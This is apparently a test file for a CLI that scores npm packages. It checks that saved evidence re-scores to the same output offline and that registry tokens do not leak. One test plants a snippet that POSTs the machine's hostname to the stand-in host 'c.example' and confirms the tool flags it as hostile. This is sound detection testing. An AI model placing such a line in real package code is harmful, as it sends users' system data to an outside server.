/**
 * `--save-evidence` then `nerq score` (docs/architecture.md, "Data flow"; docs/scoring.md §10): re-scoring saved evidence offline
 * prints the very same bytes and exits the same way; several targets save an array and
 * score back to the same NDJSON. Registry credentials from the user's `.npmrc` go to the
 * registry and nowhere else: not into the evidence file, stdout or stderr.
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EvidenceSchema } from '../../src/evidence/schema.js';
import { useSharedFixtureServer, type FixtureServer } from '../support/fixture-server.js';
import { runCli } from '../support/run-cli.js';
import { expectPackage, packumentPath, parseReport, requireBuiltCli } from './helpers.js';

let server: FixtureServer;
let tmp: string;

beforeAll(() => {
  requireBuiltCli();
  tmp = mkdtempSync(path.join(os.tmpdir(), 'nerq-roundtrip-'));
});
useSharedFixtureServer((started) => {
  server = started;
  for (const name of ['chalk', 'express', 'crossenv']) expectPackage(server, name);
});

afterAll(async () => {
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

let counter = 0;
/** A fresh directory under the test's temporary folder. */
function freshDir(): string {
  counter += 1;
  const dir = path.join(tmp, `case-${counter}`);
  mkdirSync(dir);
  return dir;
}

describe('check --save-evidence, then score: the same bytes', () => {
  it('a single target that could not be evaluated writes no evidence file and says so', async () => {
    server.expect('GET', packumentPath('no-such-package'), { status: 404, body: '{"error":"Not found"}' });
    const file = path.join(freshDir(), 'e.json');
    const check = await runCli(['check', 'no-such-package', '--json', '--save-evidence', file], { server });
    expect(check.code).toBe(3);
    expect(existsSync(file)).toBe(false);
    expect(check.stderr).toBe('nerq: warning: no evidence to save: the target could not be evaluated\n');
  });

  it('one target, --json: byte-identical stdout and the same exit code', async () => {
    const file = path.join(freshDir(), 'e.json');
    const check = await runCli(['check', 'express', '--json', '--save-evidence', file], { server });
    expect(check.code).toBe(0);
    expect(check.stderr).toBe('');
    const evidence = JSON.parse(readFileSync(file, 'utf8')) as unknown;
    expect(Array.isArray(evidence)).toBe(false);
    expect(EvidenceSchema.parse(evidence).target).toMatchObject({ name: 'express', version: '4.17.1' });

    const requestsBefore = server.requests.length;
    const score = await runCli(['score', file, '--json']);
    expect(score.stderr).toBe('');
    expect(score.code).toBe(check.code);
    expect(score.stdout).toBe(check.stdout);
    expect(server.requests.length, 'nerq score is offline').toBe(requestsBefore);
  });

  it('without NERQ_NOW, score uses the evidence capturedAt and still prints the same bytes', async () => {
    const file = path.join(freshDir(), 'e.json');
    const check = await runCli(['check', 'express', '--json', '--save-evidence', file], { server });
    const score = await runCli(['score', file, '--json'], { env: { NERQ_NOW: '' } });
    expect(score.code).toBe(check.code);
    expect(score.stdout).toBe(check.stdout);
  });

  it('evidence read from stdin (score -) gives the same bytes', async () => {
    const file = path.join(freshDir(), 'e.json');
    const check = await runCli(['check', 'chalk', '--json', '--save-evidence', file], { server });
    const score = await runCli(['score', '-', '--json'], { stdin: readFileSync(file, 'utf8') });
    expect(score.code).toBe(check.code);
    expect(score.stdout).toBe(check.stdout);
  });

  it('the terminal report is identical too, and a failing target fails again (exit 1)', async () => {
    const file = path.join(freshDir(), 'e.json');
    const check = await runCli(['check', 'crossenv', '--save-evidence', file], { server });
    expect(check.code).toBe(1);
    const score = await runCli(['score', file]);
    expect(score.code).toBe(1);
    expect(score.stdout).toBe(check.stdout);
  });

  it("the entry modules a require runs are saved (loadCode) and judged again: a hostile text put there is held by load-time-code", async () => {
    const file = path.join(freshDir(), 'e.json');
    const check = await runCli(['check', 'express', '--json', '--save-evidence', file], { server });
    expect(check.code).toBe(0);
    const saved = JSON.parse(readFileSync(file, 'utf8')) as { sources: { tarball: { status: string; facts: { loadCode?: { entries: string[]; files: { path: string; text: string }[] } } } } };
    const loadCode = saved.sources.tarball.facts.loadCode;
    expect(loadCode?.entries).toEqual(['.']);
    expect(loadCode?.files[0]?.path).toBe('index.js');
    expect(parseReport(check.stdout).checks.find((c) => c.id === 'load-time-code')).toBeUndefined(); // clean: left out

    const send = "const os = require('os');\nrequire('https').request({ hostname: 'c.example', method: 'POST' }).end(JSON.stringify([os.hostname()]));";
    loadCode!.files[0]!.text = send;
    writeFileSync(file, JSON.stringify(saved));
    const score = await runCli(['score', file, '--json']);
    const report = parseReport(score.stdout);
    expect(report.checks.find((c) => c.id === 'load-time-code')).toMatchObject({ score: 0, messageId: 'hostile' });
    expect(report.verdict).not.toBe('YES');
    expect(report.verdictReasonDetails.map((r) => r.code)).toContain('verdict-held');
  });

  it('two targets: the evidence file is an array, and score prints the same NDJSON', async () => {
    const file = path.join(freshDir(), 'e.json');
    const check = await runCli(['check', 'chalk', 'crossenv', '--json', '--save-evidence', file], { server });
    expect(check.code).toBe(1);
    const evidence = JSON.parse(readFileSync(file, 'utf8')) as unknown[];
    expect(Array.isArray(evidence)).toBe(true);
    expect(evidence.map((e) => EvidenceSchema.parse(e).target.name)).toEqual(['chalk', 'crossenv']);

    const score = await runCli(['score', file, '--json']);
    expect(score.code).toBe(check.code);
    expect(score.stdout).toBe(check.stdout);
    expect(score.stdout.split('\n')).toHaveLength(3); // two lines and the final newline
  });

  it('gate options apply to score as they do to check', async () => {
    const file = path.join(freshDir(), 'e.json');
    const check = await runCli(['check', 'chalk', '--json', '--min-score', '95', '--save-evidence', file], { server });
    expect(check.code).toBe(1);
    const score = await runCli(['score', file, '--json', '--min-score', '95']);
    expect(score.code).toBe(1);
    expect(score.stdout).toBe(check.stdout);
    expect(parseReport(score.stdout).gate).toMatchObject({ threshold: 95, passed: false });
  });
});

/**
 * The README's round trip ("`nerq score <evidence.json>`"), run as written, on a store that has
 * evaluated the target before — as a user's has: the live report then carries `previous` from
 * the store, which the evidence does not hold, so the commands must keep it out for `cmp` to hold.
 */
describe("the README's round trip, on a store that has seen the target", () => {
  it('its commands give byte-identical reports', async () => {
    const readme = readFileSync(new URL('../../README.md', import.meta.url), 'utf8');
    const section = readme.slice(readme.indexOf('### `nerq score <evidence.json>`'));
    const block = /```sh\n([\s\S]*?)```/.exec(section)![1]!;
    const commands = block.split('\n').filter((line) => line.startsWith('nerq '));
    expect(commands).toHaveLength(2);
    const dir = freshDir();
    const env = { NERQ_CACHE_DIR: path.join(dir, 'store') };
    // An earlier evaluation, the day before (at the same instant it would be no earlier one).
    await runCli(['check', 'express', '--json'], { server, env: { ...env, NERQ_NOW: '2026-11-29T00:00:00Z' } });
    const outputs = new Map<string, string>();
    for (const command of commands) {
      const [words, into] = command.replace(/#.*$/, '').split('>').map((part) => part.trim().split(/\s+/));
      const args = words!.slice(1).map((word) => (word.endsWith('.json') ? path.join(dir, word) : word));
      const run = await runCli(args, { server, env, cwd: dir });
      expect(run.stderr, command).toBe('');
      outputs.set(into![0]!, run.stdout);
    }
    const cmp = /^cmp (\S+) (\S+)/m.exec(block)!;
    expect(outputs.get(cmp[1]!)).toBeDefined();
    expect(outputs.get(cmp[1]!)).toBe(outputs.get(cmp[2]!));
  });
});

describe('registry credentials from the user .npmrc', () => {
  const TOKEN = 'secret-token-123';

  it('are sent to the registry, and appear in neither the evidence file nor the output', async () => {
    const home = freshDir();
    writeFileSync(path.join(home, '.npmrc'), `//127.0.0.1:${server.port}/npm/:_authToken=${TOKEN}\n`);
    const file = path.join(freshDir(), 'e.json');
    const before = server.requests.length;

    const check = await runCli(['check', 'chalk', '--json', '--save-evidence', file], {
      server,
      env: { HOME: home, USERPROFILE: home },
    });
    expect(check.code).toBe(0);

    const sent = server.requests.slice(before);
    const packument = sent.find((r) => r.path === packumentPath('chalk'));
    expect(packument, 'the packument was requested').toBeDefined();
    expect(packument?.headers.authorization).toBe(`Bearer ${TOKEN}`);
    // The downloads API is another service (a different path): no registry token there.
    const downloads = sent.filter((r) => r.path.startsWith('/npm-api/'));
    expect(downloads.length).toBeGreaterThan(0);
    for (const request of downloads) expect(request.headers.authorization).toBeUndefined();

    expect(existsSync(file)).toBe(true);
    const saved = readFileSync(file, 'utf8');
    for (const text of [saved, check.stdout, check.stderr]) {
      expect(text).not.toContain(TOKEN);
      expect(text).not.toMatch(/authorization|_authToken|Bearer /i);
    }
  });
});
